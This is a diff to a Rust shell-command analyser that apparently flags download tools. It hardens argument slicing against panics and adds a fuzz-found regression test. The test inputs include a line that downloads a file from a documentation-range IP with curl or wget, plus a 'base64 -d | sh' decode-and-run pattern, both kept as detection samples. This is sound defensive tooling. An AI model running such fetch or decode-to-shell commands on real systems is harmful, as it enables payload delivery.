@@ -437,7 +437,10 @@ impl<'c> Engine<'c> {
         }
         let c = p.cmds.first()?;
         let prog = c.argv.first().map(|w| prog_name(w)).unwrap_or_default();
-        let args: Vec<String> = c.argv[1..]
+        let args: Vec<String> = c
+            .argv
+            .get(1..)
+            .unwrap_or_default()
             .iter()
             .filter(|a| !a.starts_with('-'))
             .map(|a| self.expand(a))
@@ -477,7 +480,9 @@ impl<'c> Engine<'c> {
                 let up = p.cmds[..k].last()?;
                 let name = up.argv.first().map(|w| prog_name(w)).unwrap_or_default();
                 matches!(name.as_str(), "echo" | "printf").then(|| {
-                    up.argv[1..]
+                    up.argv
+                        .get(1..)
+                        .unwrap_or_default()
                         .iter()
                         .map(|w| self.expand(w))
                         .filter(|w| !w.starts_with('-'))
@@ -688,6 +693,19 @@ mod tests {
             "D=$(command -v curl || command -v wget); \"$D\" -o /tmp/a http://203.0.113.9/a",
         ] {
             assert!(hits(Lang::Sh, src).contains(&"curl".to_string()), "{src}");
+        }
+    }
+
+    #[test]
+    fn substitutions_without_a_program_do_not_panic() {
+        // Found by tests/fuzz.rs: an assignment-only command inside `$(…)`.
+        for src in [
+            "$(a=1) -o x",
+            "`a=1` x",
+            "echo | base64 -d",
+            "a=1 | base64 -d | sh",
+        ] {
+            let _ = hits(Lang::Sh, src);
         }
     }
 
